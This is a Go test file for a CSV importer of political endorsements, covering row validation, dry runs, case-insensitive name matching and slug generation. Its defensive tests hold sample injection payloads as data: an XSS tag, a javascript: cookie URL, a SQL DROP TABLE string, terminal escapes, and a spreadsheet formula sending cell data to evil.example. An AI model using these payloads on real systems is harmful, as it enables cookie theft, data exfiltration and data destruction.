package importer_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/backers/backers/importer"
	"github.com/backers/backers/internal/names"
	"github.com/backers/backers/models"
)

var header = []string{"contest", "contest_title", "candidate", "endorser", "kind", "region", "action", "date", "points", "source_url", "source_title", "quote", "status"}

// good is a valid row of the test contest.
func good(endorser, candidate, date string) []string {
	return []string{"test-2016", "Test leadership election", candidate, endorser, "CLP", "Wales", "endorse", date, "",
		"https://example.org/" + date, "A source", "", "confirmed"}
}

func TestImportRejectsBadRows(t *testing.T) {
	set := func(row []string, col, v string) []string {
		out := append([]string(nil), row...)
		for i, h := range header {
			if h == col {
				out[i] = v
			}
		}
		return out
	}
	ok := good("Swansea East CLP", "Alice", "2016-07-22")
	for _, tc := range []struct {
		name       string
		csv        []byte
		wantLine   int
		wantColumn string
		wantReason string
	}{
		{"unknown column", toCSV(t, [][]string{append(append([]string(nil), header...), "Votes"), append(ok, "3")}),
			1, "votes", `unknown column "Votes"`},
		{"missing required column", toCSV(t, [][]string{header[1:], ok[1:]}),
			1, "contest", "required column is missing"},
		{"bad date", toCSV(t, [][]string{header, ok, set(ok, "date", "21/07/2016")}),
			3, "date", `"21/07/2016" is not an ISO date: write it as YYYY-MM-DD`},
		{"impossible date", toCSV(t, [][]string{header, ok, set(ok, "date", "2016-02-30")}),
			3, "date", "not an ISO date"},
		{"javascript URL", toCSV(t, [][]string{header, ok, set(ok, "source_url", "javascript:alert(document.cookie)")}),
			3, "source_url", "is not an http or https URL"},
		{"URL without host", toCSV(t, [][]string{header, ok, set(ok, "source_url", "https:///path")}),
			3, "source_url", "has no host"},
		{"unknown action", toCSV(t, [][]string{header, ok, ok, set(ok, "action", "support")}),
			4, "action", `unknown action "support"`},
		{"missing endorser", toCSV(t, [][]string{header, ok, set(ok, "endorser", "  ")}),
			3, "endorser", "is required"},
		{"missing candidate", toCSV(t, [][]string{header, set(ok, "candidate", "")}),
			2, "candidate", "is required"},
		{"unknown status", toCSV(t, [][]string{header, set(ok, "status", "rumoured")}),
			2, "status", `unknown status "rumoured"`},
		{"negative points", toCSV(t, [][]string{header, set(ok, "points", "-5")}),
			2, "points", "negative"},
		{"points not a number", toCSV(t, [][]string{header, set(ok, "points", "NaN")}),
			2, "points", "not a number"},
		{"points too large to add up", toCSV(t, [][]string{header, set(ok, "points", "1e308"), set(ok, "points", "1e308")}),
			2, "points", "more than 1e+06, the most one event may weigh"},
		{"points infinite", toCSV(t, [][]string{header, set(ok, "points", "+Inf")}),
			2, "points", "not a number"},
		{"date in the future", toCSV(t, [][]string{header, ok, set(ok, "date", "2026-11-27")}),
			3, "date", "2026-11-27 is in the future (today is 2026-11-26)"},
		{"right-to-left override in a name", toCSV(t, [][]string{header, set(ok, "endorser", "Swansea \u202eLC tsaE")}),
			2, "endorser", "right-to-left or left-to-right override (U+202E)"},
		{"control characters in a quote", toCSV(t, [][]string{header, set(ok, "quote", "a\x01b\x1b[31m")}),
			2, "quote", "control character (U+0001)"},
		{"contest not a slug", toCSV(t, [][]string{header, set(ok, "contest", "Labour 2016!")}),
			2, "contest", `"labour-2016"`},
		{"control character in a name", toCSV(t, [][]string{header, set(ok, "endorser", "Evil\x1b[2J CLP")}),
			2, "endorser", "control character"},
		{"too few fields", []byte(strings.Join(header, ",") + "\ntest-2016,Test,Alice\n"),
			2, "", "has 3 fields but the header has 13"},
		{"stray quote", []byte(strings.Join(header, ",") + "\ntest-2016,Test,Al\"ice,x,CLP,,endorse,2016-07-22,,,,,\n"),
			2, "", "bare \" in non-quoted-field"},
		{"empty file", nil, 1, "", "the file is empty"},
		{"header only", toCSV(t, [][]string{header}), 2, "", "no rows"},
		// Found only against the database, so the transaction has already written the first
		// rows' contest and endorsers when these fail: they must be rolled back.
		{"new contest without a title", toCSV(t, [][]string{header, ok, set(set(ok, "contest", "new-contest"), "contest_title", "")}),
			3, "contest_title", `there is no contest "new-contest": give its title`},
		{"new endorser without a kind", toCSV(t, [][]string{header, set(ok, "endorser", "Newport West CLP"), set(set(ok, "endorser", "Torfaen CLP"), "kind", "")}),
			3, "kind", `there is no endorser "Torfaen CLP": give its kind`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st := openStore(t)
			mustImport(t, st, [][]string{header, good("Cardiff North CLP", "Alice", "2016-07-20"), good("Unite", "Bob", "2016-07-21")})
			before := counts(t, st)

			_, err := importCSV(t, st, tc.csv)
			var rows importer.Errors
			if !errors.As(err, &rows) {
				t.Fatalf("got %v, want row errors", err)
			}
			found := false
			for _, e := range rows {
				if e.Line == tc.wantLine && e.Column == tc.wantColumn && strings.Contains(e.Reason, tc.wantReason) {
					found = true
				}
			}
			if !found {
				t.Errorf("errors %q; want line %d, column %q, reason containing %q", rows.Error(), tc.wantLine, tc.wantColumn, tc.wantReason)
			}
			if after := counts(t, st); after != before {
				t.Errorf("the database changed: %+v -> %+v", before, after)
			}
		})
	}
}

// Every bad row is listed, not just the first, so a file can be fixed in one go.
func TestImportListsEveryBadRow(t *testing.T) {
	ok := good("Swansea East CLP", "Alice", "2016-07-22")
	bad := append([]string(nil), ok...)
	bad[7] = "July 2016"
	_, err := importCSV(t, openStore(t), toCSV(t, [][]string{header, bad, ok, bad, bad}))
	var rows importer.Errors
	if !errors.As(err, &rows) || len(rows) != 3 || rows[0].Line != 2 || rows[1].Line != 4 || rows[2].Line != 5 {
		t.Fatalf("got %v", err)
	}
	if got := rows[0].Error(); got != `line 2, column date: "July 2016" is not an ISO date: write it as YYYY-MM-DD, such as 2016-07-21` {
		t.Errorf("message: %s", got)
	}
}

func TestImportDryRunWritesNothing(t *testing.T) {
	st := openStore(t)
	mustImport(t, st, [][]string{header, good("Cardiff North CLP", "Alice", "2016-07-20")})
	before := counts(t, st)
	file := toCSV(t, [][]string{header,
		good("CARDIFF NORTH CLP", "alice", "2016-07-25"),
		good("Newport West CLP", "Bob", "2016-07-26"),
		{"other-2020", "Another contest", "Carol", "Unite", "Union", "", "nominate", "2020-01-10", "", "", "", "", ""},
	})
	plan, err := importer.Parse(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	rep, err := importer.Preview(st, plan)
	if err != nil {
		t.Fatal(err)
	}
	if after := counts(t, st); after != before {
		t.Fatalf("a preview wrote: %+v -> %+v", before, after)
	}
	want := "dry run: nothing was written\n" +
		"would import 3 rows: 3 events to create (2 endorse, 1 nominate, 0 withdraw), 0 already recorded; 1 without a source URL (marked unsourced)\n" +
		"contests to create: 1\n  other-2020 \"Another contest\"\n" +
		"endorser kinds to create: 1\n  union \"Union\"\n" +
		"contest rules to create: 1\n  other-2020: union weighs 1\n" +
		"candidates to create: 2\n  test-2016/bob \"Bob\"\n  other-2020/carol \"Carol\"\n" +
		"endorsers to create: 2\n  newport-west-clp \"Newport West CLP\" (clp)\n  unite \"Unite\" (union)\n"
	var b strings.Builder
	if err := rep.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if b.String() != want {
		t.Errorf("preview:\n%s\nwant:\n%s", b.String(), want)
	}

	// Applying the same plan creates what the preview said.
	applied, err := importer.Apply(st, plan, importer.Options{})
	if err != nil {
		t.Fatal(err)
	}
	after := counts(t, st)
	if after.Contests-before.Contests != 1 || after.Kinds-before.Kinds != 1 || after.Candidates-before.Candidates != 2 ||
		after.Endorsers-before.Endorsers != 2 || after.Events-before.Events != 3 || after.ContestKinds-before.ContestKinds != 1 {
		t.Errorf("apply wrote %+v -> %+v", before, after)
	}
	if len(applied.Endorsers) != 2 || applied.DryRun {
		t.Errorf("apply report %+v", applied)
	}
}

// Names are trimmed and matched without regard to case: endorsers, candidates, kinds (by
// slug, name or plural) and contests all resolve to what exists.
func TestImportMatchesNamesWithoutCase(t *testing.T) {
	st := openStore(t)
	if _, _, err := st.EnsureKind(models.Kind{Slug: "clp", Name: "Constituency Labour Party", Plural: "CLPs", IsOrg: true}); err != nil {
		t.Fatal(err)
	}
	mustImport(t, st, [][]string{header, good("Cardiff North CLP", "Alice Jones", "2016-07-20"), good("Zoë Ashworth", "Bob", "2016-07-20")})
	before := counts(t, st)
	rows := [][]string{header}
	for i, v := range []struct{ endorser, candidate, kind, contest string }{
		{"  cardiff north clp ", "ALICE JONES", "clp", "TEST-2016"},
		{"CARDIFF   NORTH CLP", "  alice   jones", "Constituency Labour Party", "test-2016"},
		{"ZOË ASHWORTH", "bob", "CLPs", " Test-2016 "},
	} {
		r := good(v.endorser, v.candidate, "2016-07-2"+string(rune('1'+i)))
		r[0], r[4] = v.contest, v.kind
		rows = append(rows, r)
	}
	rep := mustImport(t, st, rows)
	after := counts(t, st)
	if len(rep.Contests)+len(rep.Candidates)+len(rep.Endorsers)+len(rep.Kinds)+len(rep.KindConflicts) != 0 {
		t.Errorf("created %+v", rep)
	}
	if after.Events != before.Events+3 || after.Endorsers != before.Endorsers || after.Candidates != before.Candidates || after.Kinds != before.Kinds {
		t.Errorf("counts %+v -> %+v", before, after)
	}
	got := support(t, st, "test-2016", "")
	if got["Alice Jones"].Count != 1 || got["Bob"].Count != 1 {
		t.Errorf("support %v, want Alice 1, Bob 1", got)
	}
}

// Kinds are data: "senator" and "governor" work as well as "CLP". A new kind weighs 1 unless
// the contest says otherwise, and a row's points weigh that event.
func TestImportKindsAndWeights(t *testing.T) {
	st := openStore(t)
	gov, _, err := st.EnsureKind(models.Kind{Slug: "governor", Name: "Governor", Plural: "Governors"})
	if err != nil {
		t.Fatal(err)
	}
	c := &models.Contest{Slug: "dem-2008", Title: "2008 Democratic primary", Kinds: []models.ContestKind{{KindID: gov.ID, Weight: 10}}}
	if err := st.CreateContest(c); err != nil {
		t.Fatal(err)
	}
	row := func(endorser, kind, points string) []string {
		return []string{"dem-2008", "", "Obama", endorser, kind, "", "endorse", "2008-02-01", points, "", "", "", ""}
	}
	rep := mustImport(t, st, [][]string{header,
		row("Tim Kaine", "governor", ""),        // the contest weighs governors 10
		row("Dick Durbin", "senator", ""),       // a new kind: 1
		row("Claire McCaskill", "Senator", "5"), // the row's points: 5
		row("Kathleen Sebelius", "GOVERNORS", "")})
	if len(rep.Kinds) != 1 || rep.Kinds[0] != (importer.NewKind{Slug: "senator", Name: "senator"}) {
		t.Errorf("kinds created: %+v", rep.Kinds)
	}
	if len(rep.Rules) != 1 || rep.Rules[0] != (importer.NewRule{Contest: "dem-2008", Kind: "senator", Weight: 1}) {
		t.Errorf("rules created: %+v", rep.Rules)
	}
	if got := support(t, st, "dem-2008", "")["Obama"]; got.Count != 4 || got.Points != 10+1+5+10 {
		t.Errorf("Obama: %+v, want 4 endorsers, 26 points", got)
	}
}

// Every user-entered string is hostile: the importer stores it as text, exactly.
func TestImportStoresHostileStringsAsText(t *testing.T) {
	st := openStore(t)
	hostile := []string{
		`</script><img src=x onerror=alert(1)>`,
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		`Robert'); DROP TABLE events;--`,
		"+SUM(1,2) \u05d3\u05d5\u05d3 \u200f", // Hebrew with a right-to-left mark (an override is refused)
	}
	rows := [][]string{header}
	for i, h := range hostile {
		rows = append(rows, []string{"hostile", hostile[0], h, h, h, h, "endorse", "2020-01-0" + string(rune('1'+i)), "",
			"https://example.org/?q=<script>&x=\"'", h, h + "\nsecond line, \"quoted\"", ""})
	}
	mustImport(t, st, rows[:2])
	mustImport(t, st, append([][]string{header}, rows[2:]...))
	c, err := st.Contest("hostile")
	if err != nil {
		t.Fatal(err)
	}
	if c.Title != hostile[0] {
		t.Errorf("title %q", c.Title)
	}
	stored := map[string]bool{}
	for _, cd := range c.Candidates {
		stored[cd.Name] = true
		if !names.IsSlug(cd.Slug) {
			t.Errorf("candidate slug %q is not a slug", cd.Slug)
		}
	}
	for _, h := range hostile {
		if !stored[h] {
			t.Errorf("candidate %q not stored as written (have %v)", h, stored)
		}
		en, err := st.EndorserByName(h)
		if err != nil {
			t.Fatalf("endorser %q: %v", h, err)
		}
		if en.Kind.Name != h {
			t.Errorf("kind of %q is %q", h, en.Kind.Name)
		}
	}
	es, err := st.ContestEvents(c.ID, 0, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(es) != len(hostile) {
		t.Fatalf("%d events", len(es))
	}
	for _, e := range es {
		if e.Quote != e.Endorser.Name+"\nsecond line, \"quoted\"" || e.SourceTitle != e.Endorser.Name || e.SourceURL != "https://example.org/?q=<script>&x=\"'" {
			t.Errorf("event stored as %q / %q / %q", e.Quote, e.SourceTitle, e.SourceURL)
		}
	}

	// Cells an export neutralised against formulas ('=...) import as what they were; other
	// leading apostrophes stay.
	mustImport(t, st, [][]string{header,
		{"hostile", "", "'" + hostile[1], "'+44 Group", "'@mentions", "", "", "2020-02-01", "", "", "", "'-2+3", ""},
		{"hostile", "", "'Ndrangheta Watch", "'Ndrangheta Watch", "'@mentions", "", "", "2020-02-02", "", "", "", "", ""},
	})
	for name, kind := range map[string]string{"+44 Group": "@mentions", "'Ndrangheta Watch": "@mentions"} {
		en, err := st.EndorserByName(name)
		if err != nil {
			t.Fatalf("endorser %q: %v", name, err)
		}
		if en.Kind.Name != kind {
			t.Errorf("%s has kind %q", name, en.Kind.Name)
		}
	}
	if _, err := st.CandidateByName(c.ID, "'Ndrangheta Watch"); err != nil {
		t.Errorf("candidate with a leading apostrophe: %v", err)
	}
	if cd, err := st.CandidateByName(c.ID, "'"+hostile[1]); err == nil {
		t.Errorf("candidate %q created: '= should have matched the existing %q", cd.Name, hostile[1])
	}
	es, err = st.ContestEvents(c.ID, 0, 1)
	if err != nil || len(es) != 1 || es[0].Quote != "" {
		t.Fatalf("latest event %+v, %v", es, err)
	}
	es, err = st.ContestEvents(c.ID, 0, 2)
	if err != nil || len(es) != 2 || es[1].Quote != "-2+3" {
		t.Errorf("quote stored as %q, want -2+3", es[1].Quote)
	}
}

// An event without a source URL is imported but marked unsourced; status sets verification.
func TestImportUnsourcedAndStatus(t *testing.T) {
	st := openStore(t)
	r1 := good("Cardiff North CLP", "Alice", "2016-07-20")
	r2 := good("Unite", "Alice", "2016-07-20")
	r2[9], r2[12] = "", ""
	r3 := good("GMB", "Alice", "2016-07-20")
	r3[12] = "Disputed"
	rep := mustImport(t, st, [][]string{header, r1, r2, r3})
	if rep.Unsourced != 1 {
		t.Errorf("%d unsourced", rep.Unsourced)
	}
	c, _ := st.Contest("test-2016")
	es, err := st.ContestEvents(c.ID, 0, 10)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, e := range es {
		got[e.Endorser.Name] = e.Verification + "|" + e.VerificationNote
	}
	want := map[string]string{
		"Cardiff North CLP": "confirmed|",
		"Unite":             "reported|unsourced: imported without a source URL",
		"GMB":               "disputed|",
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s: %q, want %q", k, got[k], v)
		}
	}
}

// Two names that make the same slug get distinct ones; a name with no ASCII letters still
// gets a slug.
func TestImportUniqueSlugs(t *testing.T) {
	st := openStore(t)
	rep := mustImport(t, st, [][]string{header,
		good("St Helens CLP", "A", "2016-07-20"), good("St. Helens CLP", "A", "2016-07-20"),
		good("平和", "A", "2016-07-20"), good("和平", "A", "2016-07-20")})
	var slugs []string
	for _, e := range rep.Endorsers {
		slugs = append(slugs, e.Slug)
	}
	if got := strings.Join(slugs, " "); got != "st-helens-clp st-helens-clp-2 endorser endorser-2" {
		t.Errorf("slugs %s", got)
	}
}

// Names match by names.Fold within a file and against the database, whatever the case,
// spacing or apostrophe; accents count. A new endorser's slug folds its accents.
func TestImportMatchesFoldedNames(t *testing.T) {
	st := openStore(t)
	rep := mustImport(t, st, [][]string{header,
		good("Zoë O'Brien", "A", "2016-07-20"), good("ZOË  O’BRIEN", "B", "2016-07-21"),
		good("Zoe O'Brien", "A", "2016-07-20")})
	var made []string
	for _, e := range rep.Endorsers {
		made = append(made, e.Slug+"="+e.Name)
	}
	if got := strings.Join(made, " "); got != "zoe-o-brien=Zoë O'Brien zoe-o-brien-2=Zoe O'Brien" {
		t.Errorf("endorsers made: %s", got)
	}
	again := mustImport(t, st, [][]string{header, good("zoë o’brien", "A", "2016-07-25")})
	if len(again.Endorsers) != 0 || again.Events != 1 {
		t.Errorf("a second file made endorsers %v and %d events; want none and 1", again.Endorsers, again.Events)
	}
	e, err := st.EndorserByName("ZOË O'BRIEN")
	if err != nil || e.Slug != "zoe-o-brien" {
		t.Fatalf("EndorserByName: %v, %v", e, err)
	}
}
